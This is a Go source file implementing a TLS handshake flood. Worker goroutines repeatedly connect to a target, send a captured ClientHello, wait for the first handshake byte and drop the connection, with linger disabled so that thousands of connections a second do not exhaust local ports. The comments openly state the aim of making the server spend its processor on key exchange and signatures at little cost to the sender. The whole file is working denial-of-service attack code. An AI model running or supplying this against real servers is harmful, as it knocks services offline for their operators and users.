package gen

import (
	"context"
	"crypto/tls"
	"fmt"
	"net"
	"net/netip"
	"sync"
	"sync/atomic"
	"time"
)

// Flood is somebody who wants a server to spend its processor on handshakes without spending his own: every connection says the same ClientHello, waits for
// the first bytes of the answer, which cost the server its key exchange and its signature, and goes.
type Flood struct {
	hello  []byte
	addr   netip.AddrPort
	done   atomic.Int64 // answered hellos; added to by every worker
	cancel context.CancelFunc
	wait   sync.WaitGroup
}

// floodPatience is how long an answer is waited for: a server that lets hellos lie is left, and bothered again.
const floodPatience = 5 * time.Second

// StartFlood starts workers, one goroutine each, owned by the Flood: they end at Stop or with ctx.
func StartFlood(ctx context.Context, addr netip.AddrPort, workers int) (*Flood, error) {
	hello, err := clientHello()
	if err != nil {
		return nil, err
	}
	ctx, cancel := context.WithCancel(ctx)
	f := &Flood{hello: hello, addr: addr, cancel: cancel}
	for range workers {
		f.wait.Go(func() {
			for ctx.Err() == nil {
				if f.one(ctx) {
					f.done.Add(1)
				}
			}
		})
	}
	return f, nil
}

// Done is how many hellos were answered so far.
func (f *Flood) Done() int64 { return f.done.Load() }

// Stop ends the workers.
func (f *Flood) Stop() {
	f.cancel()
	f.wait.Wait()
}

func (f *Flood) one(ctx context.Context) bool {
	dialer := net.Dialer{Timeout: floodPatience}
	conn, err := dialer.DialContext(ctx, "tcp", f.addr.String())
	if err != nil {
		return false // refusing is a server's right
	}
	defer conn.Close()
	defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
	if tcp, ok := conn.(*net.TCPConn); ok {
		_ = tcp.SetLinger(0) // thousands a second would use up the ports
	}
	if conn.SetDeadline(time.Now().Add(floodPatience)) != nil {
		return false
	}
	var first [1]byte
	if _, err := conn.Write(f.hello); err != nil {
		return false
	}
	_, err = conn.Read(first[:])
	return err == nil && first[0] == 22 // handshake (RFC 8446 §5.1), not an alert
}

// clientHello is what crypto/tls begins with.
func clientHello() ([]byte, error) {
	here, there := net.Pipe()
	defer there.Close()
	go func() {
		_ = tls.Client(here, clientTLS()).Handshake() // ends when the other side closes
		_ = here.Close()
	}()
	b := make([]byte, 4096)
	n, err := there.Read(b)
	if err != nil {
		return nil, fmt.Errorf("make a hello: %w", err)
	}
	return b[:n], nil
}
